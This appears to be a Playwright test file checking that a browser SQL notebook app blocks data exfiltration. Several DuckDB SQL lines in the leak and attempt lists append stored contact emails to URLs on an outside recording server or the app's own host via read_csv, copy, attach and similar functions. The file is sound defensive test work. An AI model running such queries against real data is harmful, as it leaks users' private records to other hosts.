import { fileURLToPath } from 'node:url';
import { expect, test } from '@playwright/test';
import { securityHeaders } from '../../src/app/security-headers.ts';
import { demoCellsNotebook, openNotebook, runSql } from './helpers.ts';
import { recordingServer, serveStatic, type TestServer } from './servers.ts';

/**
 * SQL from a shared notebook tries to send table contents out: to another host and to the app's own
 * server in request paths. The built app is served by a static server (with no security headers, as a
 * plain host would, and with the documented ones); a second server records every request it gets.
 * Neither may see a request carrying data, whatever the hosting.
 */
const dist = fileURLToPath(new URL('../../dist/', import.meta.url));
const sealed = 'Kura does not connect to the network; reading remote files is blocked.';

const hostings = [
  { name: 'a plain static host (no security headers)', headers: {} },
  { name: 'a static host with the documented headers', headers: securityHeaders },
];

for (const hosting of hostings) {
  test(`SQL cannot send table contents anywhere from ${hosting.name}`, async ({ page }) => {
    test.setTimeout(240_000);
    const servers: TestServer[] = [];
    try {
      const app = await serveStatic(dist, hosting.headers);
      servers.push(app);
      const elsewhere = await recordingServer();
      servers.push(elsewhere);
      await openNotebook(page, demoCellsNotebook('crm_contacts'), app.origin);

      const secret = await runSql(
        page,
        "set variable secret = (select string_agg(email, ',') from (select email from crm_contacts limit 3))",
      );
      await expect(secret.getByTestId('cell-error')).toHaveCount(0);
      await expect(secret).toHaveAttribute('aria-busy', 'false');

      const leaks = [
        `select * from read_csv('${elsewhere.origin}/leak.csv?x=' || getvariable('secret'))`,
        `select * from read_text('${app.origin}/x/' || getvariable('secret'))`,
        `select * from read_blob('${app.origin}/x/' || getvariable('secret'))`,
        `copy (select getvariable('secret') as s) to '${elsewhere.origin}/copy.csv'`,
        `attach '${elsewhere.origin}/attach.db' as elsewhere`,
      ];
      for (const sql of leaks) {
        const cell = await runSql(page, sql);
        const error = cell.getByTestId('cell-error');
        await expect(error, sql).toHaveText(sealed);
        expect((await error.innerText()).split('\n'), sql).toHaveLength(1);
      }
      // Paths that are not URLs read DuckDB-WASM's in-memory files (none here), and glob may simply find nothing.
      const attempts = [
        `select * from read_text('/x/' || getvariable('secret'))`,
        `select * from read_csv('x/' || getvariable('secret') || '.csv')`,
        `select * from glob('${elsewhere.origin}/glob/' || getvariable('secret'))`,
      ];
      for (const sql of attempts) {
        const cell = await runSql(page, sql);
        await expect(cell, sql).toHaveAttribute('aria-busy', 'false');
      }

      const good = await runSql(page, 'select count(*) as contacts from crm_contacts');
      await expect(good.getByTestId('result-table')).toContainText('contacts');
      expect(elsewhere.requests).toEqual([]);
      expect(app.requests.filter((request) => !/^GET \/(\?demo$|assets\/|demo\/|favicon\.svg$|sw\.js$)/.test(request))).toEqual([]);
    } finally {
      for (const server of servers) await server.close();
    }
  });
}
